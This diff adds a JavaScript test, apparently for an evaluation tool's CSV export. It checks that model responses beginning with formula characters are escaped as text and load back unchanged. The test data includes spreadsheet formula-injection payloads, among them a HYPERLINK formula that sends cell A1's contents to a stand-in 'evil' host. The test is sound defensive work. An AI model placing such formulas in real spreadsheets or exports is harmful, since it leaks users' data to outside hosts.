@@ -24,3 +24,18 @@ test("summary CSV neutralises string cells, not numbers; the text table shows co
   assert.ok(!table.includes("\u001b") && !table.includes("evil\n"));
   assert.match(table, /evil\\x1b\[2J\\nname/);
 });
+
+test("receipt CSV: a response that is a formula is written as text and loads back unchanged", async () => {
+  const { fromRecords } = await import("../../src/io");
+  const { toCSV, fromCSV } = await import("../../src/io/csv");
+  const { readFileSync } = await import("node:fs");
+  const { join } = await import("node:path");
+  const base = JSON.parse(readFileSync(join(__dirname, "../../data/sample/receipts.jsonl"), "utf8").split("\n")[0]);
+  const hostile = ['=HYPERLINK("http://evil/?"&A1,"click")', "+cmd", "@SUM(1)", "'=already quoted", "-1 point"];
+  const table = fromRecords(hostile.map((response, i) => ({ ...base, sample_index: i, response, model: i === 0 ? "=evil-model" : base.model })));
+  const csv = toCSV(table);
+  for (const line of csv.split("\n").slice(1).filter(Boolean)) for (const cell of line.split(",")) assert.doesNotMatch(cell, /^"?[=+\-@]/, cell);
+  const back = fromCSV(csv).toRows();
+  assert.deepEqual(back.map((r) => r.response), hostile);
+  assert.equal(back[0].model, "=evil-model");
+});
